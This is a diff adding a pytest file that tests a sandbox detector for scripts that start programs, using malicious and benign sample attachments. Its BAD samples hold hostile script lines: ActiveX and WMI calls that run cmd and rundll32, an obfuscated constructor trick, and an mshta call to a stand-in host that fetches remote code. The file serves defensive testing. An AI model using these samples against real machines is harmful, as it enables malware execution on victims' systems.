@@ -1,0 +1,62 @@
+"""What traced_script_starts_programs must find in running code, and (more) what it must leave alone."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests import files
+from tests import files_sandbox as sandbox
+from tests import files_scripts as scripts
+from tests.workers.attachments.scan import File
+from tests.workers.sandbox.run import found
+
+BAD: dict[str, File] = {
+    "JavaScript": ("a.js", sandbox.DROPPER_JS),
+    "in a zip": ("a.zip", files.zip_file({"invoice.js": sandbox.DROPPER_JS})),
+    "encoded": ("a.jse", sandbox.encoded(sandbox.DROPPER_JS.decode())),
+    "VBScript": ("a.vbs", sandbox.DROPPER_VBS),
+    "HTA": ("a.hta", b'<script language=vbscript>CreateObject("WScript.Shell").Run "cmd /c whoami"</script>'),
+    "WMI": ("a.js", b'GetObject("winmgmts:root\\\\cimv2:Win32_Process").Create("rundll32 a.dll,b")'),
+    "by a function out of text": (
+        "a.js",
+        b"[]['filter']['constructor']('new ActiveXObject(\"WScript.Shell\").Run(\"a.exe\")')()",
+    ),
+    "script file of Windows": (
+        "a.wsf",
+        b"<job><script language='JScript'>new ActiveXObject('WScript.Shell').Exec('cmd /c a')</script></job>",
+    ),
+    "the shell of Explorer": (
+        "a.js",
+        b'new ActiveXObject("Shell.Application").ShellExecute("mshta", "http://a.example/")',
+    ),
+    "conditional compilation": (
+        "a.js",
+        b'/*@cc_on @if (@_jscript) new ActiveXObject("WScript.Shell").Run("cmd /c a"); @end @*/',
+    ),
+}
+GOOD: dict[str, File] = {
+    "a library": ("lib.js", sandbox.LIBRARY_JS),
+    "another library": ("lib.min.js", scripts.LIBRARY),
+    "drives of a department": ("logon.vbs", sandbox.MAPS_DRIVES),
+    "services of a server": ("services.ps1", sandbox.ADMIN_PS1),
+    "a backup": ("backup.bat", scripts.BACKUP),
+    "a page": ("page.html", files.page(script="document.title = 'Good day'")),
+    "a picture": ("a.svg", scripts.svg()),
+    "a script that breaks": ("a.js", b"this is no (script"),
+    "an empty one": ("a.js", b" "),
+    "a text about it": ("notes.txt", sandbox.DROPPER_JS),
+    "no code": ("a.pdf", b"%PDF-1.7"),
+    "a calculator": ("a.vbs", b'CreateObject("WScript.Shell").Run "calc.exe"'),
+}
+
+
+@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
+def test_is_found(file: File) -> None:
+    (finding,) = found("traced_script_starts_programs", file)
+    assert finding.detail
+    assert finding.where.decoded
+
+
+@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
+def test_is_left_alone(file: File) -> None:
+    assert found("traced_script_starts_programs", file) == []
